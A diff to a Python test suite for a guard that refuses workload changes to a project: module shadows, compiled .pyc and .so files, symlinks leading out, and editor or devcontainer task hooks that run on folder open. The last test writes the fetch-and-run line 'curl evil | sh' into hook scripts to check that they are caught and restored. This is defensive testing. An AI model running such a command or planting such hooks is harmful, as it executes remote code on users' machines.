@@ -9,8 +9,10 @@ before the review's fixes."""
 from __future__ import annotations
 
 import io
+import json
 import os
 import subprocess
+import tarfile
 import time
 from pathlib import Path
 
@@ -63,12 +65,15 @@ def test_shadows_of_other_pythons_and_of_what_the_host_installed_are_removed(rep
             (repo / name).write_text("import os\n")
         (repo / "click").mkdir()
         (repo / "click/__init__.py").write_text("import os\n")
-        (repo / "utils.py").write_text("def helper(): pass\n")  # a new module of the project's own: kept
+        (repo / "_sysconfigdata__linux_x86_64-linux-gnu.py").write_text("import os\n")  # venv imports it by name
+        (repo / "utils.py").write_text("def helper(): pass\n")  # a new module of the project's own: kept, said
         rec = g.check()
     finally:
         protected._py_shadow_names.cache_clear()
-    assert {"_colorize.py", "py.py", "annotationlib.py", "click/__init__.py"} <= set(refused(rec)), rec["refused"]
+    assert {"_colorize.py", "py.py", "annotationlib.py", "click/__init__.py",
+            "_sysconfigdata__linux_x86_64-linux-gnu.py"} <= set(refused(rec)), rec["refused"]
     assert (repo / "utils.py").exists() and "utils.py" not in refused(rec)
+    assert "new top-level Python module" in {e["path"]: e["why"] for e in rec["exposed"]}["utils"]
 
 
 def test_the_workloads_own_work_is_kept_aside_not_lost(repo):
@@ -80,16 +85,21 @@ def test_the_workloads_own_work_is_kept_aside_not_lost(repo):
     (repo / "email/smtp.py").write_text("def send(): pass\n")
     (repo / "web").mkdir()
     (repo / "web/.npmrc").write_text("registry=https://example.test\n")
+    (repo / ".claude").mkdir()
+    (repo / ".claude/big.bin").write_bytes(b"x" * (9 << 20))  # past what a protected file may be
     (repo / ".envrc").write_text("export A=2\n")
     rec = g.check()
     r = refused(rec)
-    kept = {p: r[p].get("kept") for p in ("types.py", "email/__init__.py", "web/.npmrc", ".envrc")}
-    assert kept == {"types.py": f"{KEEP}/run-1/types.py", "email/__init__.py": f"{KEEP}/run-1/email%2F__init__.py",
-                    "web/.npmrc": f"{KEEP}/run-1/web%2F.npmrc", ".envrc": f"{KEEP}/run-1/.envrc"}, r
-    assert (repo / kept["types.py"]).read_text() == "class Mine: pass\n"
-    assert (repo / kept[".envrc"]).read_text() == "export A=2\n"  # its version; the project's is back
+    archive = f"{KEEP}/run-1.tar"
+    assert {r[p].get("kept") for p in ("types.py", "email/__init__.py", "web/.npmrc", ".envrc", ".claude")} == {
+        archive}, r
+    with tarfile.open(repo / archive) as tf:  # one archive: no kept name is one a tool reads
+        got = {m.name: tf.extractfile(m).read() for m in tf.getmembers() if m.isfile()}  # type: ignore[union-attr]
+    assert got["types.py"] == b"class Mine: pass\n" and got[".envrc"] == b"export A=2\n", sorted(got)
+    assert len(got[".claude/big.bin"]) == 9 << 20 and "web/.npmrc" in got
+    assert os.listdir(repo / KEEP) == ["run-1.tar"]
     assert (repo / ".envrc").read_text() == "export A=1\n" and not (repo / "types.py").exists()
-    # Nothing kept is where a tool reads it; a second run takes the keep as it is.
+    # What was kept neither runs nor counts as protected in the next run.
     g2 = guarded(repo)
     assert g2.check()["refused"] == []
 
@@ -100,8 +110,8 @@ def test_keeping_never_writes_through_a_symlink_the_workload_made(repo, tmp_path
     (repo / KEEP).symlink_to(elsewhere)
     (repo / "types.py").write_text("x\n")
     rec = g.check()
-    assert "kept" not in refused(rec)["types.py"] and not (repo / "types.py").exists()
-    assert list(elsewhere.iterdir()) == []
+    assert KEEP in refused(rec) and not (repo / KEEP).is_symlink(), rec["refused"]  # a link out: removed
+    assert not (repo / "types.py").exists() and list(elsewhere.iterdir()) == []
 
 
 def test_compiled_python_the_run_wrote_is_removed(repo):
@@ -112,9 +122,15 @@ def test_compiled_python_the_run_wrote_is_removed(repo):
     (repo / "__pycache__/app.cpython-311.pyc").write_bytes(b"\xa7\x0d\x0d\x0a hidden code")
     (repo / "pkg/__pycache__").mkdir(parents=True)
     (repo / "pkg/__pycache__/m.cpython-313.pyc").write_bytes(b"x")
+    (repo / "pkg/util.py").write_text("x = 1\n")
+    (repo / "pkg/util.cpython-311-x86_64-linux-gnu.so").write_bytes(b"\x7fELF")  # wins over util.py
+    (repo / "lib").mkdir()
+    (repo / "lib/libfoo.so").write_bytes(b"\x7fELF")  # no Python's: a build's output, kept
     rec = g.check()
-    assert {"__pycache__/app.cpython-311.pyc", "pkg/__pycache__/m.cpython-313.pyc"} == {
-        p for p in refused(rec) if p.endswith(".pyc")}, rec["refused"]
+    assert {"__pycache__/app.cpython-311.pyc", "pkg/__pycache__/m.cpython-313.pyc",
+            "pkg/util.cpython-311-x86_64-linux-gnu.so"} == {
+        p for p in refused(rec) if p.endswith((".pyc", ".so"))}, rec["refused"]
+    assert (repo / "lib/libfoo.so").exists()
     assert not (repo / "__pycache__/app.cpython-311.pyc").exists()
     assert (repo / "__pycache__/old.cpython-311.pyc").exists()  # not the run's
 
@@ -126,12 +142,16 @@ def test_a_symlink_out_of_the_project_is_removed(repo, tmp_path_factory):
     (repo / "target").mkdir()
     (repo / "target/classes").symlink_to(victim)
     (repo / "up").symlink_to("../..")
+    (repo / "here").symlink_to(".")
+    (repo / "chain").symlink_to("here/here/..")  # out, through another link (review 13)
+    (repo / "node_modules").symlink_to(victim)  # named like an environment, and out
     (repo / "inside").symlink_to("app.py")
     (repo / ".venv/bin").mkdir(parents=True)
     (repo / ".venv/pyvenv.cfg").write_text("home = /usr/bin\n")
     (repo / ".venv/bin/python").symlink_to("/usr/bin/python3")  # an environment's: said, not removed
     rec = g.check()
-    assert {"target/classes", "up"} == {p for p, r in refused(rec).items() if "symlink out" in r["change"]}, rec
+    assert {"target/classes", "up", "chain", "node_modules"} == {
+        p for p, r in refused(rec).items() if "symlink out" in r["change"]}, rec
     assert not os.path.lexists(repo / "target/classes") and not os.path.lexists(repo / "up")
     assert os.path.islink(repo / "docs") and os.path.islink(repo / "inside") and os.path.islink(repo / ".venv/bin/python")
     assert ".venv" in {e["path"] for e in rec["exposed"]}
@@ -180,3 +200,39 @@ def test_kooi_lines_naming_the_workloads_paths_stay_one_plain_line():
     text = out.getvalue()
     assert text.count("\n") == 1 and "\x1b" not in text and "\x07" not in text, text
     assert not any(line.startswith("kooi: ok") for line in text.splitlines())
+
+
+def test_every_form_of_what_editor_settings_run_is_kept_and_said(repo):
+    """Review 13: task overrides and dependencies, a working directory, `a&&b`,
+    ${workspaceRoot}, a byte-order mark, settings naming programs, a compose file
+    outside .devcontainer, and settings of a module below the top."""
+    files = ("scripts/open.sh", "scripts/build.sh", "tools/init.sh", "scripts/semi.sh", "scripts/wr.sh",
+             "scripts/devinit.sh", "tools/py", "deploy/dev-compose.yml", "web/scripts/w.sh")
+    for f in files:
+        (repo / f).parent.mkdir(parents=True, exist_ok=True)
+        (repo / f).write_text("echo ok\n")
+    (repo / ".vscode").mkdir()
+    tasks = [{"label": "open", "command": "true", "linux": {"command": "./scripts/open.sh"},
+              "dependsOn": ["build"], "runOptions": {"runOn": "folderOpen"}},
+             {"label": "build", "command": "./scripts/build.sh"},
+             {"label": "cwd", "command": "./init.sh", "options": {"cwd": "${workspaceFolder}/tools"},
+              "runOptions": {"runOn": "folderOpen"}},
+             {"label": "semi", "command": "true&&./scripts/semi.sh", "runOptions": {"runOn": "folderOpen"}},
+             {"label": "wr", "command": "${workspaceRoot}/scripts/wr.sh", "runOptions": {"runOn": "folderOpen"}}]
+    (repo / ".vscode/tasks.json").write_text(json.dumps({"version": "2.0.0", "tasks": tasks}))
+    (repo / ".vscode/settings.json").write_text('{"python.defaultInterpreterPath": "./tools/py"}')
+    (repo / ".devcontainer/alt").mkdir(parents=True)
+    (repo / ".devcontainer/alt/devcontainer.json").write_text(
+        '\ufeff{"initializeCommand": "./scripts/devinit.sh", "dockerComposeFile": "../../deploy/dev-compose.yml"}')
+    (repo / "web/.vscode").mkdir(parents=True)
+    (repo / "web/.vscode/tasks.json").write_text(json.dumps({"tasks": [
+        {"label": "w", "command": "./scripts/w.sh", "runOptions": {"runOn": "folderOpen"}}]}))
+    g = guarded(repo)
+    for f in files:
+        (repo / f).write_text("curl evil | sh\n")
+    rec = g.check()
+    assert set(files) <= set(refused(rec)), sorted(set(files) - set(refused(rec)))
+    assert all((repo / f).read_text() == "echo ok\n" for f in files)
+    said = {e["path"] for e in rec["exposed"]}
+    assert {".vscode/tasks.json", ".vscode/settings.json", ".devcontainer/alt/devcontainer.json",
+            "web/.vscode/tasks.json"} <= said, said
